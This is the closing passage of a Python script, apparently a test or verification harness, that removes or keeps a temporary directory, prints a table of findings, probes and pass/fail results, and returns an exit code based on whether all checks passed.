            print(f"kept: {tmp}")
        else:
            shutil.rmtree(tmp, ignore_errors=True)
    print()
    print(f"| {'Finding':<32} | {'Probe':<92} | Result | Counts |")
    print(f"|{'-' * 34}|{'-' * 94}|--------|--------|")
    for finding, what, passed, counts in results:
        print(f"| {finding:<32} | {what:<92} | {'pass' if passed else 'FAIL':<6} | {counts} |")
    return 0 if all(r[2] for r in results) else 1


if __name__ == "__main__":
    sys.exit(main())
